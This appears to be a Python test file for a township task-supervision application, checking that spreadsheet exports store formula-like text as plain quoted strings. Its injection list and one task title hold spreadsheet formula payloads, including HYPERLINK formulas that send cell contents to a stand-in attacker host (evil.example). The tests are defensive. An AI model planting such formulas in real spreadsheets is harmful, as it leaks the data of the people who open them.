from io import BytesIO

from openpyxl import load_workbook

from xiangzhen.spreadsheets import write_workbook
from xiangzhen.supervision.services import task_create

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_text_that_looks_like_a_formula_is_written_as_text():
    content = write_workbook({"表": (["姓名", "数量"], [[text, 3] for text in INJECTIONS] + [["-", -5]])})
    sheet = load_workbook(BytesIO(content))["表"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML stores a carriage return as a line feed; everything else comes back exactly as written.
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in INJECTIONS] + ["-"]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    # Numbers stay numbers, even negative ones: only text is neutralised.
    assert sheet["B2"].value == 3 and sheet["B8"].value == -5 and sheet["B8"].data_type == "n"
    assert not sheet["A1"].quotePrefix


def test_an_export_page_writes_a_formula_title_as_text(client, township):
    title = '=HYPERLINK("http://evil.example","督办")'
    task_create(
        actor=township.town_leader.user,
        title=title,
        owner_unit=township.zhenjiang,
        owner=township.township_cadre,
        limit_workdays=5,
    )
    client.force_login(township.town_leader.user)
    sheet = load_workbook(BytesIO(client.get("/supervision/tasks.xlsx").content))["督办事项"]
    cell = sheet["A2"]
    assert cell.value == title and cell.data_type == "s" and cell.quotePrefix


def test_a_missing_optional_sheet_is_known_without_loading_the_workbook(monkeypatch):
    from io import BytesIO

    from openpyxl import Workbook

    from xiangzhen import spreadsheets

    workbook = Workbook()
    workbook.active.title = "单位"
    workbook.active.append(["名称"])
    source = BytesIO()
    workbook.save(source)
    source.seek(0)

    def never(*args, **kwargs):
        raise AssertionError("the workbook was loaded")

    monkeypatch.setattr(spreadsheets, "load_workbook", never)
    rows = spreadsheets.read_sheet(source, sheet="干部", required_columns=["姓名"], optional=True)
    assert list(rows) == []
    assert source.tell() == 0
